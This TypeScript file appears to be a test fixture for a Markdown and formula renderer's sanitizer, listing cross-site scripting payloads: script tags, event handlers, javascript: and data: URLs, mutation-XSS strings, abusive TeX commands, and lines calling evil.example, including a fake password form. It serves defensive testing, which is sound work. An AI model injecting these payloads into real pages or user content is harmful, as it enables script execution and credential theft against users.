/**
 * Texts that try to run something in the page of who reads them, in the manner of OWASP's cheat sheet on
 * filter evasion.
 */

const script = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script\0>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</p></div></article><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<script type="module">import("//evil.example")</script>',
  '<script>/*\n\n# Heading\n\n*/alert(1)</script>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="x" onerror="&#97;lert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<div onmouseover="alert(1)">x</div>',
  '<a onclick=alert(1) href=#>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  '![x" onerror="alert(1)](/images/content/u/x.webp)',
  "![x' onerror='alert(1)](/images/content/u/x.webp)",
  '![x](/images/content/u/x.webp"onerror="alert(1))',
  '![x](/images/content/u/x.webp "a\\" onerror=\\"alert(1)")',
  '[x](https://a.example/"onclick="alert(1))',
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '# x" onclick="alert(1)',
  '| a" onclick="alert(1) |\n| --- |\n| <td onclick=alert(1)> |',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;&#97;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#10;script:alert(1)',
  'java\tscript:alert(1)',
  '&#1;javascript:alert(1)',
  '&#14; javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript\\:alert(1)',
  'javascript://a.example/%0Aalert(1)',
  'javascript:/*--></title></style>*/alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://lab.test/0000',
  'filesystem:https://lab.test/x',
  'file:///etc/passwd',
  'about:blank',
  'ws://evil.example',
  'ftp://evil.example',
  'intent://x#Intent;scheme=javascript;end',
  '//evil.example/x',
  '/\\evil.example',
  '\\/\\/evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  'https:evil.example',
  'https:///evil.example',
  'relative/path',
];

const inLinks = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `[x][one]\n\n[one]: ${address}`,
  `<${address}>`,
  `![x](${address})`,
  `[![x](/images/content/u/x.webp)](${address})`,
]);

const pictures = [
  '![x](https://evil.example/pixel.gif)',
  '![x](http://evil.example/images/content/u/x.webp)',
  '![x](//evil.example/images/content/u/x.webp)',
  '![x](/images/../api/users)',
  '![x](/images/content/u/x.svg)',
  '![x](/api/logout)',
  '![x](/images/content/u/x.webp?a=1)',
  '![x](/images/content/u/x.webp%22onerror=alert(1))',
  '<img srcset="https://evil.example/x 1x">',
  '<picture><source srcset="javascript:alert(1)"><img></picture>',
];

const elements = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=1">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,x">',
  '<style>@import "https://evil.example/x.css"; * { background: url(javascript:alert(1)) }</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a id=root>x</a><img name=getElementById>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><script>alert(1)</script>',
  "<%<!--'%><script>alert(1)</script -->",
  '<xss style="behavior:url(x.htc)">',
  '<dialog open>x</dialog><portal src="https://evil.example">',
];

/** Broken HTML that parsers read differently the second time. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  '<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>',
  '<svg><foreignObject><iframe srcdoc="&lt;script>alert(1)&lt;/script>"></foreignObject></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<table><td><a href="javascript:alert(1)">x',
  '<a href="x`<!--"><img alt="`--><img src=x onerror=alert(1)>">',
  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
  '<select><template><option><script>alert(1)</script></option></template></select>',
];

/** Formulas are rendered by a library that knows commands for links, styles and pictures. */
const tex = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/x.png}',
  '\\htmlData{x=<script>}{y}',
  '\\style{position:fixed;inset:0}{x}',
  '\\class{x" onclick="alert(1)}{y}',
  '\\id{root}{x}',
  '\\text{<script>alert(1)</script>}',
  '\\text{</math><img src=x onerror=alert(1)>}',
  '\\unicode{x3c}script\\unicode{x3e}',
  '\\def\\x{\\x\\x}\\x',
  '\\newcommand{\\a}{\\a\\a}\\a',
  '\\color{red;background:url(https://evil.example)}x',
  '\\rule{9999em}{9999em}',
  '<img src=x onerror=alert(1)>',
  '</math></span><script>alert(1)</script>',
  `${'{'.repeat(500)}x${'}'.repeat(500)}`,
];

const formulas = tex.flatMap((source) => [`a $\`${source}\`$ b`, `\`\`\`math\n${source}\n\`\`\``]);

/** In every place where a text may be. */
const around = (text: string) => {
  const line = text.replace(/\n+/g, ' ');
  return [
    text,
    `## ${line}`,
    `- ${line}\n  1. ${line}`,
    `> ${line}`,
    `| ${line.replaceAll('|', '\\|')} |\n| --- |\n| ${line.replaceAll('|', '\\|')} |`,
    `**${line}** *${line}* ~~${line}~~`,
    `[${line}](https://a.example)`,
    `![${line}](/images/content/u/x.webp "${line.replaceAll('"', '\\"')}")`,
  ];
};

export const attacks: string[] = [
  ...[...script, ...handlers, ...pictures, ...elements, ...mutations].flatMap(around),
  ...inLinks,
  ...formulas,
];
